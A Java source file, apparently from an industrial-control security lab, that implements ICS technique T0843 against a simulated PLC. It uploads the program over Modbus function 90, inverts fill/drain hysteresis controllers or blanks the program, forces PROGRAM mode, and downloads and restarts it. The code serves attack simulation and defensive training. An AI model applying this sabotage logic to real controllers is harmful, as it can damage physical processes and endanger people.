package dev.otlab.attacks.techniques;

import dev.otlab.attacks.AttackContext;
import dev.otlab.attacks.StepOutcome;
import dev.otlab.core.OtlabException;
import dev.otlab.network.Protocol;
import dev.otlab.network.fabric.Access;
import dev.otlab.simulator.modbus.EngineeringProtocol;
import dev.otlab.simulator.modbus.ModbusConnection;
import dev.otlab.simulator.plc.BlockSpec;
import dev.otlab.simulator.plc.PlcMode;
import dev.otlab.simulator.plc.ProgramCodec;
import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/**
 * T0843 Program Download: uploads the PLC's running program over the engineering function (Modbus
 * FC 90), patches it into a malicious variant, downloads it and starts it, as a Stuxnet-style
 * attacker with an engineering tool does. The PLC must be in PROGRAM mode to take a download; the
 * step switches it there itself when it is not (a tool asks "stop the PLC?" and the attacker says
 * yes), so a T0858 step before it is optional but shows on the wire.
 *
 * <p>Variants: {@code inverted-level} swaps the on/off sense of hysteresis level controllers (fill
 * becomes drain: a valve that should open at the low level opens at the high one and stays open),
 * every one or only the one driving {@code output}; {@code empty} downloads a program without
 * blocks, so the outputs freeze under RUN.
 *
 * <p>Parameters: {@code target}; {@code variant}; {@code output}; {@code run} (start the program
 * afterwards, default true); {@code unit}.
 */
public final class ProgramDownload extends AbstractTechnique {

  public ProgramDownload() {
    super("T0843", Set.of("target"), Set.of("variant", "output", "run", "unit"));
  }

  @Override
  void checkValues(Checks c) {
    checkCommon(c);
    Params p = c.params();
    String variant =
        c.value("variant", () -> p.choice("variant", "inverted-level", "inverted-level", "empty"));
    c.param("run", () -> Params.bool("run", p.string("run", "true")));
    var ctl = c.controller();
    if (ctl == null || variant == null) {
      return;
    }
    String output = p.get("output");
    if (output != null && c.point("output", ctl, output, false) == null) {
      return;
    }
    if (patch(variant, output, ctl.logic(), new ArrayList<>()) == null) {
      c.add(
          output != null ? "output" : "variant",
          "the program of "
              + ctl.id()
              + " has no hysteresis level controller"
              + (output != null ? " driving '" + output + "'" : "")
              + " to invert (its blocks are "
              + ctl.logic().stream().map(BlockSpec::type).toList()
              + ")",
          "Use variant: empty, or target a controller with a hysteresis block");
    }
  }

  @Override
  StepOutcome run(AttackContext ctx, Params p) {
    String target = p.required("target");
    String variant = p.choice("variant", "inverted-level", "inverted-level", "empty");
    String output = p.get("output");
    boolean start = Params.bool("run", p.string("run", "true"));
    int unit = unit(ctx, target, p);
    Access access = accessOrNull(ctx, target, Protocol.MODBUS);
    if (access == null) {
      return new StepOutcome.Failed("host '" + target + "' runs no Modbus server");
    }
    Watch watch = new Watch(ctx, target);
    String phase = "upload";
    try (ModbusConnection m = Wire.connect(access, unit, ctx.ioTimeout())) {
      Engineering eng = new Engineering(m);
      EngineeringProtocol.Info before = eng.info();
      byte[] original = eng.upload();
      List<BlockSpec> program = ProgramCodec.decode(original);
      List<String> patched = new ArrayList<>();
      List<BlockSpec> malicious = patch(variant, output, program, patched);
      if (malicious == null) {
        return new StepOutcome.Failed(
            "the program of "
                + target
                + " has no hysteresis level controller"
                + (output != null ? " driving '" + output + "'" : "")
                + " to invert; its blocks are "
                + program.stream().map(BlockSpec::type).toList()
                + ".");
      }
      byte[] text = ProgramCodec.encodeBytes(malicious);
      boolean modeChanged = before.mode() != PlcMode.PROGRAM;
      phase = "mode change";
      if (modeChanged) {
        eng.setMode(PlcMode.PROGRAM);
      }
      phase = "download";
      eng.download(text);
      phase = "start";
      if (start) {
        eng.setMode(PlcMode.RUN);
      }
      EngineeringProtocol.Info after = eng.info();
      if (after.crc() != ProgramCodec.crc(text)) {
        return new StepOutcome.Failed(
            String.format(
                Locale.ROOT,
                "%s accepted the download but runs CRC %08X, not the malicious %08X.",
                target,
                after.crc(),
                ProgramCodec.crc(text)));
      }
      Map<String, String> f = new LinkedHashMap<>();
      f.put("protocol", "modbus");
      f.put("function", "FC90 PROGRAM_DOWNLOAD");
      f.put("variant", variant);
      f.put("patched", String.join("; ", patched));
      f.put("previousCrc", String.format(Locale.ROOT, "%08X", before.crc()));
      f.put("crc", String.format(Locale.ROOT, "%08X", after.crc()));
      f.put("bytes", String.valueOf(text.length));
      f.put("modeChanged", modeChanged ? before.mode() + "->PROGRAM" : "no");
      f.put("mode", after.mode().name());
      return new StepOutcome.Succeeded(
          "replaced the program of "
              + target
              + " with the "
              + variant
              + " variant ("
              + (patched.isEmpty() ? "no blocks" : String.join("; ", patched))
              + "), "
              + text.length
              + " bytes; PLC in "
              + after.mode(),
          f);
    } catch (ModbusConnection.ExceptionResponse e) {
      return watch.blockedOr(
          access,
          new StepOutcome.Failed(
              target + " refused the program " + phase + " with " + e.getMessage() + "."));
    } catch (IOException e) {
      return watch.blockedOr(
          access,
          new StepOutcome.Failed(
              "program " + phase + " on " + target + " failed: " + e.getMessage() + "."));
    } catch (OtlabException e) {
      return new StepOutcome.Failed(
          "the program uploaded from " + target + " could not be read: " + e.getMessage());
    }
  }

  /** The malicious program, or null when the variant finds nothing to change. */
  static @Nullable List<BlockSpec> patch(
      String variant, @Nullable String output, List<BlockSpec> program, List<String> patched) {
    if (variant.equals("empty")) {
      return List.of();
    }
    List<BlockSpec> out = new ArrayList<>();
    for (BlockSpec b : program) {
      if (b.type().equals("hysteresis")
          && (output == null || output.equals(b.params().get("output")))) {
        Map<String, String> params = new LinkedHashMap<>(b.params());
        String action = params.getOrDefault("action", "fill");
        String inverted = action.equals("drain") ? "fill" : "drain";
        params.put("action", inverted);
        patched.add("hysteresis on " + params.get("output") + ": " + action + " -> " + inverted);
        out.add(new BlockSpec(b.type(), params));
      } else {
        out.add(b);
      }
    }
    return patched.isEmpty() ? null : out;
  }
}
